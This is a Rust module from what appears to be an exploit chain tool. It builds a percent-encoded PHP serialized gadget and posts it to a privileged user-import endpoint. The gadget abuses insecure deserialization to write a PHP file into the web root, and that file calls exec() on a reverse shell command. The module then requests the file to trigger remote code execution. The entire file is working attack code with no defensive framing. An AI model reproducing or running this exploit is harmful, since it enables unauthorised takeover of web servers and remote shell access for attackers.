use crate::errors::ChainError;
use crate::http::endpoints;
use super::php_serialize::{file_write_gadget, gadget_target, unserialize};
use super::{random_name, RceDispatcher};
use tracing::{debug, info};

pub const WEB_ROOT: &str = "/var/www/html";

/// Serialized, percent-encoded gadget writing `content` to `path`. The
/// encoded form is parsed back before use so a malformed gadget never
/// leaves the machine.
pub fn build_payload(path: &str, content: &str) -> Result<String, ChainError> {
    let serialized = file_write_gadget(path, content).serialize();
    let parsed = unserialize(&serialized)?;
    if gadget_target(&parsed) != Some((path, content)) {
        return Err(ChainError::Internal("serialized gadget does not round-trip".into()));
    }
    Ok(urlencoding::encode(&serialized).into_owned())
}

/// Import a user object whose nested file object drops a PHP script into
/// the web root, then request that script.
pub(super) async fn run(dispatcher: &RceDispatcher<'_>) -> Result<(), ChainError> {
    let name = random_name(10);
    let path = format!("{}/{}.php", WEB_ROOT, name);
    let content = format!("<?php exec(\"{}\"); ?>", dispatcher.reverse_shell());

    let payload = build_payload(&path, &content)?;
    info!(file = %path, "Generated payload");

    let reply = dispatcher
        .session
        .post_form_privileged(endpoints::IMPORT_USER, &[("userobj", payload.as_str())])
        .await?;
    debug!(status = reply.status, "Import user response");

    if !reply.is_ok() {
        return Err(ChainError::Assertion(format!(
            "user import rejected (status {})",
            reply.status
        )));
    }
    info!("Payload sent");

    dispatcher.trigger(&format!("/{}.php", name)).await
}
